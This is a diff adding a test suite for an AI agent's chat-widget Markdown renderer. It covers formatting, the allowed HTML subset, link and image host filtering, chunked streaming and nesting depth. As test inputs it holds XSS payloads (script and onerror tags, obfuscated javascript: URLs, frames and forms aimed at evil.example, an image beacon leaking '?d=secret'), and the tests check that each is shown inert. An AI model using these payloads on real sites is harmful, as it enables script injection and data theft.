@@ -1,0 +1,199 @@
+import { describe, expect, it } from 'vitest';
+import { createMarkdown } from '../../src/widget/markdown.ts';
+
+const images = { hosts: ['img.example'], showLabel: 'Show image from {host}' };
+const REL = 'target="_blank" rel="noopener noreferrer nofollow"';
+
+/** Renders `text`, cut into pieces of `size` characters; 0: in one piece. */
+function render(text: string, size = 0): HTMLElement {
+  const root = document.createElement('div');
+  const markdown = createMarkdown(root, images);
+  const step = size || text.length || 1;
+  for (let at = 0; at < text.length; at += step) markdown.write(text.slice(at, at + step));
+  markdown.end();
+  root.normalize();
+  return root;
+}
+
+const html = (text: string, size = 0) => render(text, size).innerHTML;
+
+/** A seeded stream of whole numbers below `limit`. */
+function numbers(seed: number): (limit: number) => number {
+  let state = seed;
+  return (limit) => {
+    state = (state * 1_103_515_245 + 12_345) & 0x7fffffff;
+    return state % limit;
+  };
+}
+
+const PIECES =
+  '* ** _ __ ` ``` # - 1. > | [ ]( ) ! $ \\ \\( ~~ a_b <b> </b> <br> <ul> <li> </li> </ul> <script> --- [x] 0 . h ht é 😀'
+    .split(' ')
+    .concat([
+      ' ',
+      '  ',
+      '\n',
+      '\n\n',
+      '\r\n',
+      '    ',
+      'word',
+      'https://a.example/',
+      '<a href="https://x.example">',
+      '</a>',
+      '<',
+      '>',
+      '\u{F0001}',
+      '\ud83d',
+    ]);
+
+function scramble(next: (limit: number) => number, pieces: readonly string[]): string {
+  return Array.from({ length: next(14) + 1 }, () => pieces[next(pieces.length)]).join('');
+}
+
+describe('the agent’s Markdown', () => {
+  it.each([
+    [
+      'Hello **bold** and *it* `code` ~~gone~~',
+      '<p>Hello <strong>bold</strong> and <em>it</em> <code>code</code> <s>gone</s></p>',
+    ],
+    ['one\ntwo\n\nthree', '<p>one<br>two</p><p>three</p>'],
+    ['# One\n### Two', '<h3>One</h3><h4>Two</h4>'],
+    ['> said\n> so', '<blockquote><p>said<br>so</p></blockquote>'],
+    ['- a\n- b\n\n3. c', '<ul><li>a</li><li>b</li></ul><ol start="3"><li>c</li></ol>'],
+    ['- [ ] open\n- [x] done', '<ul><li><span>☐ </span> open</li><li><span>☑ </span> done</li></ul>'],
+    ['```js\nlet a;\n```\nafter', '<pre><code>let a;</code></pre><p>after</p>'],
+    [
+      '| a | b |\n|---|---|\n| 1 | 2 |\n\nx',
+      '<div class="table"><table><thead><tr><th> a </th><th> b </th></tr></thead><tbody><tr><td> 1 </td><td> 2 </td></tr></tbody></table></div><p>x</p>',
+    ],
+    [
+      '[shop](https://shop.example/a_b "Title")',
+      `<p><a href="https://shop.example/a_b" title="shop.example" ${REL}>shop</a></p>`,
+    ],
+    [
+      'see https://shop.example/x.',
+      `<p>see <a href="https://shop.example/x" title="shop.example" ${REL}>https://shop.example/x</a>.</p>`,
+    ],
+    [
+      '[call](tel:+442079460000)',
+      '<p><a href="tel:+442079460000" rel="noopener noreferrer nofollow">call</a></p>',
+    ],
+  ])('shows %j', (text, expected) => {
+    expect(html(text)).toBe(expected);
+  });
+
+  it.each([
+    ['costs $5 or $HOME and $x$', 'costs $5 or $HOME and $x$'],
+    ['order_id and the_long_name', 'order_id and the_long_name'],
+    ['an array[0] and [1]', 'an array[0] and [1]'],
+    ['a **never closed', 'a **never closed'],
+    ['a `never closed', 'a `never closed'],
+    ['an [open](https://never.closed', 'an [open](https://never.closed'],
+    ['![no end', '![no end'],
+    ['5 < 6 && 7 > 6 <3', '5 < 6 && 7 > 6 <3'],
+    ['\\(x\\) \\[y\\] \\*', '(x) [y] *'],
+  ])('leaves %j as people meant it', (text, expected) => {
+    expect(render(text).textContent).toBe(expected);
+  });
+
+  // spec messaging §6: the small HTML subset that the platform's text may carry.
+  it.each([
+    [
+      '<b>a</b> <i>b</i> <em>c</em> <strong>d</strong>',
+      '<p><b>a</b> <i>b</i> <em>c</em> <strong>d</strong></p>',
+    ],
+    ['one<br>two<br/>three', '<p>one<br>two<br>three</p>'],
+    ['<p>One</p>\n<p>Two</p>', '<p><p>One</p><p>Two</p></p>'],
+    ['<ul>\n<li>a</li>\n<li>b</li>\n</ul>', '<p><ul><li>a</li><li>b</li></ul></p>'],
+    [
+      '<a href="https://x.example/a_b">go</a>',
+      `<p><a href="https://x.example/a_b" title="x.example" ${REL}>go</a></p>`,
+    ],
+    [
+      'https://a.example/x<br>next',
+      `<p><a href="https://a.example/x" title="a.example" ${REL}>https://a.example/x</a><br>next</p>`,
+    ],
+    ['`<b>` stays', '<p><code>&lt;b&gt;</code> stays</p>'],
+    ['a stray </b> is dropped', '<p>a stray  is dropped</p>'],
+  ])('understands %j', (text, expected) => {
+    expect(html(text)).toBe(expected);
+  });
+
+  it.each([
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg onload=alert(1)>',
+    '<iframe src="https://evil.example"></iframe>',
+    '<style>*{display:none}</style>',
+    '<form action=https://evil.example>',
+  ])('shows %j as text', (text) => {
+    const root = render(text);
+    expect([root.textContent, root.querySelectorAll('*').length]).toEqual([text, 1]);
+  });
+
+  it.each([
+    '[x](javascript:alert(1))',
+    '[x](JaVaScRiPt:alert`1`)',
+    '[x](java\tscript:alert`1`)',
+    '[x](data:text/html,hi)',
+    '[x](vbscript:x)',
+    '[x](//evil.example)',
+    '[x](https://bank.example@evil.example)',
+    '<a href="javascript:alert(1)">x</a>',
+    "<a href='java&#115;cript:x'>x</a>",
+    '![x](javascript:alert`1`)',
+    '![x](http://evil.example/pixel)',
+  ])('makes nothing of %j that can be followed', (text) => {
+    const root = render(text);
+    expect(root.querySelectorAll('[href],[src]').length).toBe(0);
+    expect(root.textContent).toContain('x');
+  });
+
+  it('keeps only the address of a tag of the subset', () => {
+    expect(
+      html('<b onclick="x()" style="position:fixed">a</b><a href=https://x.example onmouseover=x>b</a>'),
+    ).toBe(`<p><b>a</b><a href="https://x.example/" title="x.example" ${REL}>b</a></p>`);
+  });
+
+  it('loads a picture only from the site’s own image hosts', () => {
+    const root = render('![ours](https://img.example/a.png) ![theirs](https://evil.example/?d=secret)');
+    expect([...root.querySelectorAll('img')].map((image) => image.src)).toEqual([
+      'https://img.example/a.png',
+    ]);
+    expect(root.querySelector('button')?.textContent).toBe('theirs Show image from evil.example');
+  });
+
+  it('gives the same elements however the text is cut', () => {
+    const next = numbers(7);
+    for (let run = 0; run < 1_500; run++) {
+      const text = scramble(next, PIECES);
+      const whole = html(text);
+      for (let size = 1; size <= 7; size++) {
+        if (html(text, size) !== whole)
+          expect({ text, size, html: html(text, size) }).toEqual({ text, size, html: whole });
+      }
+    }
+  });
+
+  it('loses none of the agent’s words, whatever signs stand around them', () => {
+    const next = numbers(9);
+    const pieces = [...PIECES.filter((piece) => !/[([h]/.test(piece)), 'w1', 'w2', 'w3', '[', ']', '!'];
+    for (let run = 0; run < 1_500; run++) {
+      const text = scramble(next, pieces);
+      const count = (it: string | null) => it?.match(/w\d/g)?.length ?? 0;
+      if (count(render(text).textContent) !== count(text)) expect(html(text)).toBe(text);
+    }
+  });
+
+  it.each(['>', '<b>', '*a **b ', '- ', '[', '![', '`', '<a '])(
+    'stays shallow under 3,000 of %j',
+    (piece) => {
+      const depth = (element: Element): number => 1 + Math.max(0, ...[...element.children].map(depth));
+      expect(depth(render(piece.repeat(3_000)))).toBeLessThan(40);
+    },
+  );
+
+  it('shows an emoji that was cut in half whole', () => {
+    expect(render('a😀b', 2).textContent).toBe('a😀b');
+  });
+});
